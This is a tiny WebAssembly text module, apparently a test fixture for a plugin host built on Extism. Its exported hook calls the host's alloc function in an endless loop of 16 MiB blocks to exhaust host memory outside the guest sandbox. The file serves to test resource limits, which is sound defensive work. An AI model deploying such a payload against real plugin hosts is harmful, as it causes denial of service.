;; Attack: allocates Extism host-side blocks (outside linear memory) forever.
(module
  (import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
  (memory (export "memory") 1)
  (func (export "hook") (result i32)
    (loop $more
      (drop (call $alloc (i64.const 16777216)))
      (br $more))
    (i32.const 0)))
